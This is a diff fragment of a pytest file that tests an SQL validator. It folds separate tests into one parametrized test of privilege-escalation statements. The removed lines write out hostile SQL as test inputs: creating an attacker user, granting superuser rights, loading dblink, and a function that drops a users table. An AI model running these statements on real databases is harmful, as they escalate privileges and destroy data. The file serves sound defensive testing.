-        """Test that CREATE USER is blocked."""
-        result = sql_parser.validate("CREATE USER attacker WITH PASSWORD 'hack'")
-        assert not result.is_safe
-
-    def test_alter_user_blocked(self, sql_parser: SQLParser) -> None:
-        """Test that ALTER USER is blocked."""
-        result = sql_parser.validate("ALTER USER postgres WITH SUPERUSER")
-        assert not result.is_safe
-
-    def test_create_extension_blocked(self, sql_parser: SQLParser) -> None:
-        """Test that CREATE EXTENSION is blocked."""
-        result = sql_parser.validate("CREATE EXTENSION IF NOT EXISTS dblink")
-        assert not result.is_safe
-
-    def test_create_function_blocked(self, sql_parser: SQLParser) -> None:
-        """Test that CREATE FUNCTION is blocked."""
-        result = sql_parser.validate("""
-            CREATE FUNCTION evil() RETURNS void AS $$
-            BEGIN
-                EXECUTE 'DROP TABLE users';
-            END;
-            $$ LANGUAGE plpgsql
-        """)
+    @pytest.mark.parametrize("sql", PRIVILEGE_ESCALATION_SQL)
+    def test_privilege_escalation_blocked(self, sql_parser: SQLParser, sql: str) -> None:
+        """Test that GRANT/REVOKE, role changes and extension/function creation are blocked."""
+        result = sql_parser.validate(sql)
         assert not result.is_safe